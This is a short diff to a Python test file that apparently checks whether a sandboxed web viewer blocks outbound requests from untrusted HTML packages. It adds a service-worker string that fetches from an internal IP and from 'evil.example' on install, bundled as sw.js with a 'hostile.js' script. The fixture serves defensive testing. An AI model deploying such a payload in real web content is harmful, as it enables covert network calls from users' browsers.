@@ -22,6 +22,9 @@ from tests.whole.programs import Centre, Point
 
 ROOT = Path(__file__).parents[2]
 SCRIPT = Path(__file__).with_name("hostile.js").read_text("utf-8")
+SERVICE = (
+    "self.addEventListener('install', () => fetch('http://10.66.0.9/service')); fetch('http://evil.example/service')"
+)
 BARE = """
 import os, sys
 os.environ["QTWEBENGINE_DISABLE_SANDBOX"] = "1"
@@ -39,7 +42,9 @@ application.exec()
 
 
 def html() -> bytes:
-    return zips.write(zips.of({"index.html": page("<script src=hostile.js></script>"), "hostile.js": SCRIPT}))
+    return zips.write(
+        zips.of({"index.html": page("<script src=hostile.js></script>"), "hostile.js": SCRIPT, "sw.js": SERVICE})
+    )
 
 
 def scorm() -> bytes:
